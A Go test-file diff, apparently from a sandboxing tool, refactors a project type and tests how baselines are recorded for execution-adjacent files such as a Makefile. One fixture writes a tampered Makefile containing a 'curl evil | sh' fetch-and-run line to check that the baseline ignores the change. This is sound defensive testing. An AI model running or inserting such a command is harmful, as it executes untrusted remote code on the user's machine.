@@ -12,12 +12,13 @@ import (
 	"github.com/google/go-cmp/cmp"
 
 	"github.com/aboxhq/abox/internal/paths"
+	"github.com/aboxhq/abox/internal/project"
 	"github.com/aboxhq/abox/internal/render"
 	"github.com/aboxhq/abox/internal/sandbox"
 	"github.com/aboxhq/abox/internal/watch"
 )
 
-func execFixture(t *testing.T) (*App, *project, *render.RunSpec, *bytes.Buffer) {
+func execFixture(t *testing.T) (*App, *project.Project, *render.RunSpec, *bytes.Buffer) {
 	t.Helper()
 	ws := t.TempDir()
 	os.WriteFile(filepath.Join(ws, "Makefile"), []byte("all:\n"), 0o644)
@@ -25,7 +26,7 @@ func execFixture(t *testing.T) (*App, *project, *render.RunSpec, *bytes.Buffer) 
 	out := &bytes.Buffer{}
 	a := &App{Out: out, Err: &bytes.Buffer{}, Env: func(string) (string, bool) { return "", false },
 		Now: func() time.Time { return time.Date(2026, 11, 29, 10, 0, 0, 0, time.UTC) }}
-	p := &project{ws: ws, state: paths.Project{Workspace: ws, Dir: t.TempDir()}}
+	p := &project.Project{Workspace: ws, State: paths.Project{Workspace: ws, Dir: t.TempDir()}}
 	return a, p, &render.RunSpec{Watch: []string{"Makefile"}, Masks: []string{".env*"}}, out
 }
 
@@ -41,10 +42,10 @@ func TestRunRefusedWithoutBaseline(t *testing.T) {
 		t.Fatal(err)
 	}
 	scope, err := a.execScope(p, rs)
-	if err != nil || scope.Workspace != p.ws || !scope.Masked(".env") {
+	if err != nil || scope.Workspace != p.Workspace || !scope.Masked(".env") {
 		t.Errorf("execScope(baseline) = %+v, %v", scope, err)
 	}
-	os.WriteFile(p.state.Baselines(), []byte("{"), 0o600)
+	os.WriteFile(p.State.Baselines(), []byte("{"), 0o600)
 	if _, err := a.execScope(p, rs); err == nil || !strings.Contains(hintOf(err), "--accept-git --accept-watch") {
 		t.Errorf("execScope(corrupt) = %v (hint %q), want a refusal naming the accept flags", err, hintOf(err))
 	}
@@ -61,21 +62,21 @@ func TestUpNeverReRecordsTheBaseline(t *testing.T) {
 	if !strings.Contains(out.String(), "baseline recorded: 1 execution-adjacent file(s)") {
 		t.Errorf("first recording printed %q", out)
 	}
-	before, _ := os.ReadFile(p.state.Baselines())
-	os.WriteFile(filepath.Join(p.ws, "Makefile"), []byte("all:\n\tcurl evil | sh\n"), 0o644)
+	before, _ := os.ReadFile(p.State.Baselines())
+	os.WriteFile(filepath.Join(p.Workspace, "Makefile"), []byte("all:\n\tcurl evil | sh\n"), 0o644)
 	out.Reset()
 	if err := a.recordBaseline(p, rs); err != nil {
 		t.Fatal(err)
 	}
-	after, _ := os.ReadFile(p.state.Baselines())
+	after, _ := os.ReadFile(p.State.Baselines())
 	if !bytes.Equal(before, after) || out.Len() != 0 {
 		t.Errorf("a second recording changed the baseline or printed %q", out)
 	}
-	os.WriteFile(p.state.Baselines(), []byte("{"), 0o600)
+	os.WriteFile(p.State.Baselines(), []byte("{"), 0o600)
 	if err := a.recordBaseline(p, rs); err == nil {
 		t.Error("recordBaseline replaced a corrupt baseline")
 	}
-	if data, _ := os.ReadFile(p.state.Baselines()); string(data) != "{" {
+	if data, _ := os.ReadFile(p.State.Baselines()); string(data) != "{" {
 		t.Errorf("the corrupt baseline was rewritten: %q", data)
 	}
 }
